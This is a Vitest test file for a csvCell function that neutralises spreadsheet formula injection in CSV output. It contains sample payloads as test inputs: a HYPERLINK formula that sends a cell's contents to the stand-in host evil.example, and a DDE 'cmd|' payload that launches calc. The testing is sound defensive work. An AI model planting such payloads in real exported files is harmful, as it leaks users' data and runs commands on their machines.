import { describe, expect, it } from 'vitest';
import { csvCell } from './csv.js';

describe('csvCell', () => {
  it('neutralises text that a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"Chihuahua")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Chihuahua"")"`,
    );
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvCell(`${start}cmd|' /C calc'!A0`)).toMatch(new RegExp(`^"?'\\${start}cmd`));
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe(`"'\rx"`);
  });

  it('keeps numbers, ordinary text, quoting and empty cells', () => {
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell(2623)).toBe('2623');
    expect(csvCell('Ciudad Juárez')).toBe('Ciudad Juárez');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });
});
